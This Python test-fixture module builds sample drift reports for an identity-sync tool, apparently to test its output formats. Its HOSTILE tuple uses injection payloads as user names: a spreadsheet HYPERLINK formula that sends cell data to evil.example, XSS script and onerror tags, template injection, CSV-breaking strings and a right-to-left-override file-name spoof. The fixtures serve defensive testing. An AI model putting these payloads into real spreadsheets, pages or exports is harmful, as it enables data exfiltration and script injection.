"""Documents for the formats: small worlds, with names that mean harm."""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
from hypothesis import strategies as st

from syncd.core.checkpoints import Checkpoint
from syncd.core.classification import classify
from syncd.core.consents import Waiver
from syncd.core.evidence import Closure, Ending, PastRun, Surroundings, make_document
from syncd.core.group_matching import GroupFinding
from syncd.core.guard import Ground, Objection, Verdict
from syncd.core.planning import Item, make_plan
from syncd.core.policy import Policy
from syncd.core.reports import DriftReport, GroupReport, Listing, count_situations
from syncd.core.situations import DEFAULT_MODES, Effect, Mode, Situation
from syncd.core.subjects import Absence, Lookup, Origin, Presence, Subject
from syncd.ports import OutcomeKind
from syncd.workflows.apply_plan import Outcome
from tests.core.builders import account, assignment, linked, missing, subjects
from tests.core.group_builders import group, mapping

NOW = datetime(2026, 3, 2, 2, 17, 30, 250_000, tzinfo=UTC)
HOUR = timedelta(hours=1)
ROOT = Path(__file__).parents[2]
SCHEMA: dict[str, Any] = json.loads((ROOT / "docs" / "drift-report.schema.json").read_text(encoding="utf-8"))

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><b>",
    "{{ 7 * 7 }}",
    'a,b"c\r\nd',
    "\u202egpj.exe",
)
CHECKPOINT = Checkpoint("syncd.example/acme", 4711, b"root of the tree")


def report_of(
    people: tuple[Subject, ...], in_sync: int = 3, groups: GroupReport | None = None, policy: Policy | None = None
) -> DriftReport:
    """Return the report on these people, and on so many who agree."""
    policy = policy or Policy(modes=DEFAULT_MODES | {Situation.GHOST: Mode.PROPOSE})
    findings = classify(people, policy.protects)
    pointed_to = {one.account.id for each in people if each.assignment for one in each.candidates}
    alone = {each.candidates[0].account.id for each in people if each.assignment is None}
    plan = make_plan("crm", findings, policy)
    return DriftReport(
        app="crm",
        run_id="run-7",
        snapshot_id="snapshot-7",
        started=NOW - timedelta(minutes=4),
        sealed=NOW - timedelta(minutes=1),
        assignments=in_sync + sum(each.assignment is not None for each in people),
        accounts=in_sync + len(pointed_to) + len(alone - pointed_to),
        linked=in_sync + len(pointed_to),
        coverage=98.25,
        counts=count_situations(findings, in_sync),
        findings=findings,
        plan=plan,
        verdict=Verdict((Objection(Ground.THRESHOLD, "21 deactivations are more than max_deactivations = 20"),)),
        policy_digest=policy.digest(),
        groups=groups,
        listing=Listing(2, "0oa1", "CRM", "c" * 32, "f" * 32),
    )


def around(checkpoint: Checkpoint | None = None) -> Surroundings:
    """Return what there was beside the report: three runs, five deactivations, a waiver."""
    runs = (
        PastRun("run-7", "drift-report", NOW - timedelta(minutes=4), None, None, {}),
        PastRun("run-6", "apply", NOW - 48 * HOUR, NOW - 47 * HOUR, 3, {}),
        PastRun(
            "run-5", "apply", NOW - 72 * HOUR, NOW - 71 * HOUR, 2, {"ghost": 2, "in-sync": 9, "groups/member-extra": 1}
        ),
    )
    spans = (timedelta(seconds=40), 2 * HOUR, 3 * HOUR, 300 * HOUR)
    closures = (*(Closure(NOW - span, NOW) for span in spans), Closure(None, NOW))
    waiver = Waiver("w-1", "account-1", None, "ada", "bob", HOSTILE[8], "SEC-1", NOW + 300 * HOUR)
    return Surroundings(NOW, runs, closures, (waiver,), checkpoint, 26 * HOUR, 48 * HOUR)


def document_of(
    report: DriftReport, surroundings: Surroundings | None = None, outcomes: tuple[Outcome, ...] = ()
) -> dict[str, Any]:
    """Return the document as it comes out of the database: through its canonical bytes."""
    ending = Ending(2, "5 in drift", [one.as_json() for one in outcomes], ("one more orphan",))
    made = make_document(report, ending, surroundings or around())
    told: dict[str, Any] = orjson.loads(orjson.dumps(made, option=orjson.OPT_SORT_KEYS))
    return told


def hostile_report() -> DriftReport:
    """Return a report on people whose names mean harm, one of them an administrator, one waived; and on groups."""
    people = [
        missing(
            account(id=f"account-{number}", user_name=name, is_admin=number == 0),
            Lookup(Presence.GONE, "404"),
            Absence(2, NOW - 30 * HOUR, 30 * HOUR),
        )
        for number, name in enumerate(HOSTILE)
    ]
    people.append(Subject(assignment(okta_user_id="00u-new", user_name=HOSTILE[0], external_id=None), ()))
    people.append(
        linked(account(id="account-90", external_id="00u90"), assignment(okta_user_id="00u90", user_status="SUSPENDED"))
    )
    people.append(missing(account(id="account-91", user_name="robot", origin=Origin.LOCAL, external_id=None)))
    report = report_of(tuple(people), groups=group_report())
    waived = [replace(one, waiver="w-1") if number == 1 else one for number, one in enumerate(report.findings)]
    return replace(report, findings=tuple(waived))


def group_report() -> GroupReport:
    """Return a report on groups with one member too many, and one group that Okta does not push."""
    held = group(name=HOSTILE[9])
    why = "a member here, and none in Okta"
    found = (
        GroupFinding(Situation.MEMBER_EXTRA, held.name, why, held, mapping(), account(), "00u1"),
        GroupFinding(Situation.GROUP_ORPHAN, held.name, HOSTILE[0], held),
    )
    counts = {Situation.IN_SYNC: 4, Situation.GROUP_ORPHAN: 1, Situation.MEMBER_EXTRA: 1}
    return GroupReport(2, 1, 5, counts, found)


def hostile_document(checkpoint: Checkpoint | None = CHECKPOINT) -> dict[str, Any]:
    """Return the document of `hostile_report`, with outcomes of every kind."""
    item = Item(Effect.DEACTIVATE, Situation.ORPHAN_GONE, "account-1", HOSTILE[1], "00u1", 3, "gone", since=NOW)
    outcomes = tuple(Outcome(item, kind, "so", 2 * HOUR) for kind in OutcomeKind)
    return document_of(hostile_report(), around(checkpoint), outcomes)


def clean_document() -> dict[str, Any]:
    """Return the document of a run that found nothing."""
    return document_of(report_of(()))


def documents() -> st.SearchStrategy[dict[str, Any]]:
    """Draw documents of worlds in which anything is possible."""
    worlds = st.tuples(subjects(), st.integers(0, 5), st.sampled_from([None, CHECKPOINT]))
    return worlds.map(lambda world: document_of(report_of(world[0], world[1]), around(world[2])))
